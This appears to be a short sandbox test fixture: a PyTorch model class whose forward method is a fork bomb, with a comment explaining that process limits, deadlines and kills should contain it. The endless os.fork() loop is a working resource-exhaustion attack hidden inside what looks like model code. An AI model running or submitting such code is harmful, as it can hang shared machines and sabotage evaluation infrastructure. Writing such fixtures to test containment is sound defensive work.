# A fork bomb: every process forks for ever. The process limits (RLIMIT_NPROC and the pids cgroup) stop
# the growth, the call's deadline ends the run, and the kill must reach every process in the sandbox.
import os

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, a, b):
        while True:
            try:
                os.fork()
            except OSError:
                pass
